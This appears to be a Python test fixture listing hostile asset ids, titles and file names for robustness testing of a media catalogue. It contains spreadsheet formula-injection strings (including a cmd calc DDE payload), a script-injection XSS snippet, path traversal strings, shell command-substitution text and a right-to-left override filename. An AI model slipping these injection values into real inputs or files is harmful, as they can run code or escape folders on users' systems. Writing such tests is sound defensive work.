"""Hostile ids, titles and file names, as in messy real catalogues and in attacks."""

from __future__ import annotations

HOSTILE_ASSET_IDS = (
    '=HYPERLINK("http://example.invalid/?x="&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "two lines",
    "../../../escape",
    "quo\"te and 'quote'",
    "semi;colon, comma:colon",
    "ünïcødé-图片-🐟",
    "caf\u00e9",
    "cafe",  # looks like the one above, but is another id
    "tab here",
    "back\\slash/and/slash",
    "<script>alert(1)</script>",
    "gnp.tsal",
    "two  spaces and more",
    "L" * 1_000,
    "CON",
    ".",
    "${HOME}`id`$(id)",
    "%2e%2e%2fescape",
)

# How the table writes some ids: with what is not seen, or in another form of Unicode.
WRITTEN_ASSET_IDS: dict[str, str | None] = {
    "two lines": "two\nlines",
    "caf\u00e9": "cafe\u0301",
    "tab here": "tab\there",
    "gnp.tsal": "\u202egnp.tsal",
    "two  spaces and more": "two  spaces\u00a0and more",
    "semi;colon, comma:colon": "semi;colon,\u2002comma:colon\u200e",
}

HOSTILE_TITLES = (
    "=1+1",
    "+49 30 1234567",
    "@everyone, look",
    "-5 degrees",
    "First line\r\nSecond line",
    "A \"quoted\" 'title'; with, marks",
    "标题 with 🐟 and العربية",
    "T" * 5_000,
    "</script><script>alert(1)</script>",
    "",
    "\ttabbed",
    "../../title",
)

# File names in folders below media/, without the extension.
HOSTILE_FILE_NAMES = (
    "=cmd|' calc'!A0",
    "+plus",
    "@at",
    "-rf",
    "..hidden..",
    "a..b",
    "quo\"te's",
    "ünïcødé 图片 🐟",
    "very-long-" + "x" * 200,
    "50% off #1? yes&no",
    "percent%20twenty",
    "trailing dot.",
    " space ",
    "star*glob[1]{2}",
    "semi;colon",
    "UPPER.CASE.jpg",
    "~home",
)
